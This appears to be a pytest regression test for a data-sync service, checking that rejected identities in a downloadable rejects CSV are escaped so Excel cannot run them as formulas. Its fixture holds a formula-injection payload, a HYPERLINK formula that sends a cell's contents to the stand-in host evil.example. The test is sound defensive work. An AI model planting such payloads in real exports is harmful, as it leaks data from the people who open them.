"""Issue 14, item 8: the rejects CSV is safe to open in a spreadsheet.

A profile file dropped on the sFTP inbox (by Campaign's workflow, or by anyone who can write there)
names its own identities; a rejected row's identity comes back in ``GET /sync/runs/{id}/rejects``,
which an admin opens in Excel. A cell such as ``=HYPERLINK(...)`` was run as a formula there.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
import pytest
from flask import Flask

from sync.peers.sftp import SftpPeer
from tests.sync.profiles.conftest import (  # noqa: F401  (fixtures, found by name)
    known_hosts,
    peer,
    put,
    run_profiles,
    sftp_root,
    sftp_settings,
    ssh_keys,
)

FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Open the report")'
HOSTILE = (
    "external_id,email,first_name\n"
    f'"{FORMULA.replace(chr(34), chr(34) * 2)}",not-an-email,Eve\n'
    "+33612345678,also-not-an-email,Mallory\n"
    "CRM-000001,ann.lee@example.com,Ann\n"
)


@pytest.fixture
def settings_overrides(settings_overrides: dict[str, Any], sftp_settings: dict[str, Any]) -> dict[str, Any]:  # noqa: F811
    return {**settings_overrides, **sftp_settings}


def test_rejected_cells_cannot_run_as_formulas(
    app: Flask,
    peer: SftpPeer,  # noqa: F811
    sftp_root: Path,  # noqa: F811
    live_server: str,
    keys: Any,
) -> None:
    put(sftp_root, "profiles_0412.csv", HOSTILE)
    run = run_profiles(app, settings={"sync_max_unreadable_fraction": 0.9})
    assert run.summary["rejected"] == 2, run.summary
    with httpx.Client(base_url=live_server, timeout=10) as http:
        answer = http.get(f"/api/v1/sync/runs/{run.id}/rejects", headers=keys.admin)
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["file", "line", "identity", "reason"]
    identities = [row[2] for row in rows[1:]]
    assert identities == ["'" + FORMULA, "'+33612345678"]
    for row in rows[1:]:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row), row
